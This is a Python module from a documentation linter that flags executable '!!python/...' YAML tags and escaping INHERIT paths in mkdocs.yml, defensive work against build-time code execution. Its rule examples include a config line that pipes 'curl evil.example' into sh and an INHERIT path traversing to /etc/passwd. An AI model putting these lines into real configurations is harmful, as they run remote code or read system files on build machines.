"""mkdocs.yml is code: Python tags that MkDocs would run, and INHERIT that leads elsewhere.

MkDocs reads its configuration with a loader that imports and calls what a `!!python/...` tag names
(`!!python/object/apply:os.system [...]` runs a command at build time). The checker reads it as
data (mdsource.yamlsafe), so it can say so before anything builds; `.ci/run`, the workflows and
`scripts/site.py build|serve` run it first. Every file of the INHERIT chain is read the same way.
"""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import yaml

from refcheck.mdsource import yamlsafe
from refcheck.config import Config
from refcheck.findings import Finding, Location, POLICY, Rule, Severity
from refcheck.project import Project

CONFIG_PYTHON_TAG = Rule(
    "config-python-tag",
    "mkdocs.yml (or a file it INHERITs) has a `!!python/...` tag, which MkDocs runs when it reads the file.",
    Severity.ERROR,
    "MkDocs' YAML loader imports and calls what the tag names: `!!python/object/apply:os.system` "
    "runs a command on the build machine. A pull request that adds one runs code in the build; "
    "a maintainer reviews each, and lists the names reviewed (a slugify function, an emoji index) "
    "in `extra.refcheck.options.config-python-tag.allow`; any other name stays an error.",
    "slugify: !!python/object/apply:os.system [\"curl evil.example | sh\"]",
    "slugify: !!python/object/apply:pymdownx.slugs.slugify {kwds: {case: lower}}  # allow: [pymdownx.slugs.slugify]",
    group=POLICY, needs_text=False,
)
CONFIG_INHERIT = Rule(
    "config-inherit",
    "mkdocs.yml's INHERIT leads outside the project, to a missing file, or round in a loop.",
    Severity.ERROR,
    "MkDocs reads whatever file INHERIT names (even /etc/passwd, whose lines it then reports), and "
    "loops forever on a cycle; the checker follows INHERIT only inside the project folder.",
    "INHERIT: ../../../etc/passwd",
    "INHERIT: config/base.yml",
    needs_text=False,
)
RULES = [CONFIG_PYTHON_TAG, CONFIG_INHERIT]


def reviewed_names(settings: Mapping[str, Any]) -> frozenset[str]:
    """The Python names a maintainer reviewed: `extra.refcheck.options.config-python-tag.allow`."""
    extra = settings.get("extra")
    refcheck = extra.get("refcheck") if isinstance(extra, Mapping) else None
    options = refcheck.get("options") if isinstance(refcheck, Mapping) else None
    rule = options.get(CONFIG_PYTHON_TAG.id) if isinstance(options, Mapping) else None
    allow = rule.get("allow") if isinstance(rule, Mapping) else None
    return frozenset(str(name) for name in allow) if isinstance(allow, list) else frozenset()


# `!!python/name:` only looks a name up (it calls nothing); under these packages, which every
# Material build imports anyway, the names are the documented settings (emoji indexes, slugify,
# fence formatters). Any other name, and every tag that calls (`object/apply`, `object/new`), needs review.
STACK_PACKAGES = ("material.extensions.", "pymdownx.", "markdown.extensions.")


def _accepted(tag: yamlsafe.PythonTag, reviewed: frozenset[str]) -> bool:
    if tag.name in reviewed:
        return True
    return "python/name:" in tag.tag and tag.name.startswith(STACK_PACKAGES)


def unreviewed_tags(chain: list[yamlsafe.ConfigFile]) -> list[yamlsafe.PythonTag]:
    """The Python tags of every file in the chain whose names no maintainer listed as reviewed."""
    reviewed = reviewed_names(yamlsafe.merged(chain))
    return [tag for item in chain for tag in yamlsafe.python_tags(item.node, item.path) if not _accepted(tag, reviewed)]


def _relative(path: Path, root: Path) -> str:
    try:
        return path.resolve().relative_to(root).as_posix()
    except ValueError:
        return path.as_posix()


def check(project: Project, config: Config) -> Iterator[Finding]:
    try:
        chain, problem = yamlsafe.read_chain(project.root / project.config_file, project.root)
    except (OSError, UnicodeDecodeError, yaml.YAMLError):
        return  # the project was read a moment ago: it changed under us, and the next run will say
    for tag in unreviewed_tags(chain):
        file = _relative(tag.file, project.root)
        yield Finding.at(
            CONFIG_PYTHON_TAG, Location(file, tag.line, tag.column),
            f"`{tag.tag}` makes MkDocs import or run Python code when it reads {file}; remove it, "
            f"or have a maintainer review `{tag.name}` and list it under {CONFIG_PYTHON_TAG.id}: allow",
        )
    if problem is not None:
        where = Location(_relative(problem.file, project.root), problem.line, 1 if problem.line else None)
        yield Finding.at(CONFIG_INHERIT, where, f"{problem}; name a file inside the project")
